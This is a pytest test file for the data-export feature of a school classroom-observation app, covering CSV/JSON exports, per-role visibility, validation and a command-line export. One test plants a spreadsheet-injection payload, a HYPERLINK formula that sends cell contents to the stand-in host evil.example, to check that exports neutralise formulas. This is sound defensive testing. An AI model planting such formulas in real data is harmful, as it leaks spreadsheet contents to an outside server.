"""Exports: one row per rating, streamed, for exactly the walkthroughs the reader may see."""

from __future__ import annotations

import csv
import io
import json

import pytest

from observe.core.permissions import Role
from observe.extensions import db
from observe.reports.export import COLUMNS, inert
from tests.calibration.test_sessions import SCORES


@pytest.fixture
def district(push_as, team, create_user, create_classroom, new_session, score):
    """Ann's two visits at Riverside, Cy's one at Southfield, and things never exported."""
    south = create_classroom("SHS-11", school=team.other_school, name="AP Biology")
    ann, cy = team.observers[0], team.observers[2]
    kept = [
        push_as(ann, {"ratings": [{"criterion": "ct-explain-reasoning", "level": 3},
                                  {"criterion": "ct-rigorous-task", "not_observed": True}],
                      "observed_at": "2026-10-01T15:00:00+00:00"}),
        push_as(ann, {"ratings": [{"criterion": "ct-explain-reasoning", "level": 2}],
                      "observed_at": "2026-10-20T15:00:00+00:00"}),
        push_as(cy, {"ratings": [{"criterion": "ct-explain-reasoning", "level": 4}],
                     "school_id": team.other_school.id, "classroom_id": south.id,
                     "observed_at": "2026-10-05T15:00:00+00:00"}),
    ]  # fmt: skip
    push_as(ann, {"ratings": [{"criterion": "ct-explain-reasoning", "level": 1}], "state": "draft"})
    session = new_session()
    score(ann, session, SCORES["Ann Ames"])  # a calibration score: practice, not a visit
    return kept


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_an_admin_exports_every_rating_of_every_visit(client, sign_in, admin, district):
    sign_in(admin)
    response = client.get("/reports/export/download?format=csv")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.splitlines()[0] == ",".join(COLUMNS)
    rows = read_csv(text)
    assert [(r["observation_id"], r["criterion"]) for r in rows] == [
        (district[0], "ct-explain-reasoning"),
        (district[0], "ct-rigorous-task"),
        (district[2], "ct-explain-reasoning"),
        (district[1], "ct-explain-reasoning"),
    ]  # oldest visit first; no draft, no calibration score
    first = rows[0]
    assert (first["school_code"], first["classroom"], first["course_level"]) == (
        "RVE",
        "Grade 3",
        "",
    )
    assert (first["level"], first["level_label"], first["not_observed"]) == (
        "3",
        "Proficient",
        "no",
    )
    assert (rows[1]["level"], rows[1]["not_observed"]) == ("", "yes")
    assert first["rubric"] == "portrait-of-a-graduate" and first["observed_on"] == "2026-10-01"
    assert first["dimensions"] == "achievement; power" and first["observer"] == "Ann Ames"


def test_each_role_exports_what_it_may_see(client, bearer, team, district, create_user):
    def exported(user, query=""):
        response = client.get(f"/api/v1/exports/observations?format=json{query}",
                              headers=bearer(user))  # fmt: skip
        assert response.status_code == 200, response.get_data(as_text=True)
        return json.loads(response.get_data(as_text=True))

    ann_rows = exported(team.observers[0])
    assert {r["observation_id"] for r in ann_rows} == {district[0], district[1]}
    assert ann_rows[1]["not_observed"] is True and ann_rows[1]["level"] is None
    assert exported(team.observers[1]) == []  # Ben walked nothing
    principal = create_user(Role.SCHOOL_LEADER, schools=[team.other_school])
    assert {r["observation_id"] for r in exported(principal)} == {district[2]}
    dated = exported(team.observers[0], "&from=2026-10-20&to=2026-10-20")
    assert {r["observation_id"] for r in dated} == {district[1]}


def test_a_bad_request_names_each_problem_and_exports_nothing(client, sign_in, team, district):
    sign_in(team.facilitator)  # a leader of Riverside only
    response = client.get("/reports/export/download?format=xml&from=2026-13-01&school=SHS")
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "must be csv or json, not &#39;xml&#39;" in page
    assert "&#39;2026-13-01&#39; is not a date (YYYY-MM-DD)" in page
    assert "not one of your schools: SHS" in page


def test_the_export_page(client, sign_in, team):
    sign_in(team.observers[0])
    page = client.get("/reports/export").get_data(as_text=True)
    assert "you export your own walkthroughs" in page


def test_the_command_line_exports_everything(app, district, tmp_path):
    out = tmp_path / "ratings.csv"
    result = app.test_cli_runner().invoke(
        args=["export", "observations", "--from", "2026-10-02", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert "Wrote 2 ratings" in result.output
    assert {r["observation_id"] for r in read_csv(out.read_text())} == {district[1], district[2]}
    bad = app.test_cli_runner().invoke(
        args=["export", "observations", "--school", "NOPE", "-o", str(out)]
    )
    assert bad.exit_code == 1 and "not one of your schools: NOPE" in bad.output


def test_spreadsheet_formulas_are_exported_as_text(client, sign_in, admin, push_as, team):
    # Issue 11: a roster value reached a data team's spreadsheet as a live formula.
    formula = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    team.school.name = formula
    team.classroom.name = "@SUM(A1:A9)"
    team.classroom.subject = "-2+3"
    db.session.commit()
    push_as(team.observers[0], {"ratings": [{"criterion": "ct-explain-reasoning", "level": 3}]})
    sign_in(admin)
    rows = read_csv(client.get("/reports/export/download?format=csv").get_data(as_text=True))
    assert rows[0]["school"] == "'" + formula
    assert rows[0]["classroom"] == "'@SUM(A1:A9)"
    assert rows[0]["subject"] == "'-2+3"
    assert rows[0]["level"] == "3"  # numbers stay numbers
    # JSON carries the values as stored: nothing there evaluates them.
    records = json.loads(client.get("/reports/export/download?format=json").get_data(as_text=True))
    assert records[0]["school"] == formula


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert inert(start + "1") == "'" + start + "1"
    assert inert("plain") == "plain" and inert(-3) == -3
